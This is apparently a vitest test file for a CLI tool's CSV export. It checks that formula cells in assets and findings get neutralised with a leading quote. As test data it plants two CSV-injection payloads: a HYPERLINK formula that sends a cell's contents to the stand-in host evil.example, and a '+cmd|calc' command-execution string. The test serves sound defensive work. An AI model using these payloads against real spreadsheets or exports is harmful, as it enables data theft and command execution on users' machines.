import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { roster } from '../helpers/cli.js';

let dir: string;
let db: string;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'roster-csv-'));
  db = join(dir, 'r.db');
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

const LINK = '=HYPERLINK("http://evil.example/?"&A1,"x")';
const CALC = '+cmd|calc';

/** The cells of a CSV output under one header. */
function column(text: string, header: string): string[] {
  return (parse(text, { columns: true }) as Record<string, string>[]).map((r) => r[header]!);
}

describe('roster -o csv', () => {
  it('neutralises formula cells in assets and findings, as the API export does', async () => {
    const cmdb = readFileSync('examples/estate/cmdb-servers.csv', 'utf8')
      .replace(',web-prod-01,cmdb_ci', `,"${LINK.replace(/"/g, '""')}",cmdb_ci`)
      .replace(',legacy-ftp-01,cmdb_ci', `,${CALC},cmdb_ci`);
    const file = join(dir, 'cmdb.csv');
    writeFileSync(file, cmdb);
    const at = '2026-11-30T07:00:00Z';
    expect((await roster('--db', db, 'ingest', file, '--as-of', at, '--now', at)).code).toBe(0);
    const assets = await roster('--db', db, 'assets', '-o', 'csv');
    const names = column(assets.out, 'NAME');
    expect(names).toContain(`'${LINK}`);
    expect(names).toContain(`'${CALC}`);
    expect(names.filter((n) => /^[=+\-@]/.test(n))).toEqual([]);
    const findings = await roster('--db', db, 'findings', '-o', 'csv');
    const cells = (parse(findings.out) as string[][]).flat();
    expect(cells.some((c) => c.includes(CALC))).toBe(true);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });
});
